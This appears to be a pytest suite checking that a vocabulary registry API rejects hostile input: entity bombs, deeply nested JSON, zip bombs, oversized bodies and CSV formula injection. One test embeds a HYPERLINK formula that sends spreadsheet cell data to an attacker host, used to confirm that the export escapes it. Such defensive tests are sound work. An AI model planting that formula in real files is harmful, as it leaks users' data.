"""Hostile input over HTTP: every refusal is a problem that names its limit, comes before the
expensive work, never echoes the input back, and never is a 5xx."""

from __future__ import annotations

import csv
import io
import time

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.body_limits import DEFAULT_BODY_LIMIT
from registry.auth import Role
from registry.organisations import create_organisation
from registry.oxigraph_store import OxigraphStore
from registry.tokens import issue_token
from tests.conftest import VOCABULARIES_DIR
from tests.registry.test_input_bounds import deep_json, entity_bomb, peak_rss_bytes, zip_bytes

WERKVORMEN = VOCABULARIES_DIR / "werkvormen.ttl"
PROBLEM = "application/problem+json"


@pytest.fixture
def api(test_settings):
    store = OxigraphStore()
    create_organisation(store, "kennisnet", "Kennisnet")
    token, _ = issue_token(store, "kennisnet", Role.EDITOR)
    with TestClient(create_app(test_settings, store=store)) as client:
        yield client, {"Authorization": f"Bearer {token}"}


@pytest.fixture
def drafted(api):
    client, editor = api
    uploaded = client.put("/api/vocabularies/werkvormen/draft", content=WERKVORMEN.read_bytes(), headers={**editor, "Content-Type": "text/turtle"})
    assert uploaded.status_code == 200
    return client, editor


def assert_problem(response, status: int, *phrases: str) -> None:
    assert response.status_code == status, response.text[:500]
    assert response.headers["content-type"] == PROBLEM
    assert len(response.content) < 5_000
    for phrase in phrases:
        assert phrase in response.json()["detail"]


def test_an_anonymous_entity_bomb_on_validate_is_a_fast_small_400(api):
    client, _ = api
    before, started = peak_rss_bytes(), time.perf_counter()
    response = client.post("/validate", content=entity_bomb(), headers={"Content-Type": "application/rdf+xml"})
    elapsed, grown = time.perf_counter() - started, peak_rss_bytes() - before
    assert_problem(response, 400, "DOCTYPE", "not accepted")
    assert elapsed < 1 and grown < 20_000_000, (elapsed, grown)


def test_an_entity_bomb_draft_upload_stores_nothing(drafted):
    client, editor = drafted
    response = client.put("/api/vocabularies/bomb/draft", content=entity_bomb(), headers={**editor, "Content-Type": "application/rdf+xml"})
    assert_problem(response, 400, "DOCTYPE")
    assert client.get("/api/vocabularies/bomb/draft", headers=editor).status_code == 404


@pytest.mark.parametrize(("path", "content_type", "editor_only"), [
    ("/validate", "application/json", False),
    ("/validate", "application/ld+json", False),
    ("/api/datasets", "application/ld+json", True),
    ("/api/resolve", "application/json", False),
    ("/api/gaps", "application/json", False),
    ("/api/vocabularies/werkvormen/draft", "application/ld+json", True),
])
def test_deep_json_is_a_413_naming_the_depth_limit_never_a_500(api, path, content_type, editor_only):
    client, editor = api
    method = client.put if path.endswith("/draft") else client.post
    response = method(path, content=deep_json(50_000), headers={"Content-Type": content_type, **(editor if editor_only else {})})
    assert_problem(response, 413, "more than 64 deep", "the limit is 64")


def test_a_large_json_body_is_refused_before_it_is_read(api):
    client, _ = api
    declared = client.post("/api/resolve", content=b"{}", headers={"Content-Type": "application/json", "Content-Length": str(100_000_000)})
    assert_problem(declared, 413, f"limit of {DEFAULT_BODY_LIMIT} bytes")

    def chunks():  # no Content-Length: the limit is enforced while reading
        for _ in range(100):
            yield b'{"uris": [' + b'"http://example.org/x",' * 50_000

    streamed = client.post("/api/resolve", content=chunks(), headers={"Content-Type": "application/json"})
    assert_problem(streamed, 413, f"limit of {DEFAULT_BODY_LIMIT} bytes")


def test_a_zip_bomb_xlsx_upload_is_refused_from_the_zip_directory(api):
    client, editor = api
    bomb = zip_bytes({"xl/worksheets/sheet1.xml": b"\0" * 50_000_000})
    started = time.perf_counter()
    response = client.put("/api/vocabularies/bomb/draft", content=bomb,
                          headers={**editor, "Content-Type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"})
    assert_problem(response, 413, "the limit is 100")
    assert time.perf_counter() - started < 2


def test_a_literal_beyond_the_limit_is_refused_and_not_stored(drafted):
    client, editor = drafted
    turtle = WERKVORMEN.read_text() + '\n<https://example.org/huge> <http://www.w3.org/2004/02/skos/core#note> "' + "x" * 1_000_001 + '" .\n'
    response = client.put("/api/vocabularies/werkvormen/draft", content=turtle.encode(), headers={**editor, "Content-Type": "text/turtle"})
    assert_problem(response, 413, "literal of 1000001 characters", "the limit is 1000000")
    assert client.get("/api/vocabularies/werkvormen/draft", headers=editor).json()["triples"] < 10_000


def test_adding_a_concept_to_a_draft_works(drafted):
    client, editor = drafted
    added = client.post("/api/vocabularies/werkvormen/draft/concepts", headers=editor,
                        json={"uri": "https://example.org/werkvorm/escaperoom", "pref_labels": {"nl": "Escaperoom"}})
    assert added.status_code == 201, added.text
    assert added.json() == {"uri": "https://example.org/werkvorm/escaperoom"}


@pytest.mark.parametrize(("method", "path"), [
    ("POST", "/api/vocabularies/werkvormen/draft/concepts"),
    ("PATCH", "/api/vocabularies/werkvormen/draft/concepts"),
    ("POST", "/api/vocabularies/werkvormen/releases"),
    ("POST", "/api/organisations"),
    ("POST", "/api/mapping-sets"),
    ("PUT", "/api/vocabularies/werkvormen/draft"),
    ("POST", "/api/datasets"),
])
def test_an_anonymous_write_with_a_malformed_body_is_401_not_422(api, method, path):
    client, _ = api
    response = client.request(method, path, content=b"{not json", headers={"Content-Type": "application/json"})
    assert_problem(response, 401)
    assert response.headers["www-authenticate"].startswith("Bearer")
    bad_token = client.request(method, path, content=b"{not json", headers={"Content-Type": "application/json", "Authorization": "Bearer eduvoc_x_y"})
    assert bad_token.status_code == 401


@pytest.mark.parametrize("version", ["1.0\n", "1.0€", "1/0", " 1.0", "", "x" * 65])
def test_a_release_version_outside_the_syntax_is_422_naming_version(drafted, version):
    client, editor = drafted
    response = client.post("/api/vocabularies/werkvormen/releases", json={"version": version, "change_note": "x"}, headers=editor)
    assert_problem(response, 422)
    assert [p["name"] for p in response.json()["invalid_params"]] == ["version"]


def test_a_huge_invalid_value_is_not_echoed_back(drafted):
    client, editor = drafted
    response = client.post("/api/vocabularies/werkvormen/releases", json={"version": "1/" * 1_000_000, "change_note": "x"}, headers=editor)
    assert response.status_code == 422 and len(response.content) < 5_000


def test_a_draft_exported_as_csv_has_no_cell_a_spreadsheet_would_run(drafted):
    client, editor = drafted
    attack = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    added = client.post("/api/vocabularies/werkvormen/draft/concepts", headers=editor,
                        json={"uri": "https://example.org/werkvorm/x", "pref_labels": {"nl": attack, "en": "-2+3"}})
    assert added.status_code == 201, added.text
    exported = client.get("/api/vocabularies/werkvormen/draft/export", params={"format": "csv"}, headers=editor)
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))) for cell in row]
    assert "'" + attack in cells and "'-2+3" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    again = client.put("/api/vocabularies/werkvormen/draft", content=exported.content, headers={**editor, "Content-Type": "text/csv"})
    assert again.status_code == 200, again.text  # read back: the prefix comes off again
    back = client.get("/api/vocabularies/werkvormen/draft/export", params={"format": "csv"}, headers=editor)
    assert back.content == exported.content


@pytest.mark.parametrize("path", ["/api/vocabularies/werkvormen/concepts", "/api/datasets", "/vocabularies/werkvormen"])
def test_a_huge_offset_is_422_naming_offset_not_a_500(client, path):
    response = client.get(path, params={"offset": 10**30})
    if path.startswith("/api/"):
        assert_problem(response, 422, "offset")
    else:  # a page answers with an HTML error page
        assert response.status_code in (400, 422) and "text/html" in response.headers["content-type"]
    assert client.get(path, params={"offset": 10_000_000}).status_code == 200  # the largest offset: an empty page


def test_a_deep_reconciliation_batch_is_a_413(api):
    client, _ = api
    from urllib.parse import urlencode

    response = client.post("/reconcile", content=urlencode({"queries": deep_json(50_000).decode()}),
                           headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert_problem(response, 413, "queries nests", "the limit is 64")
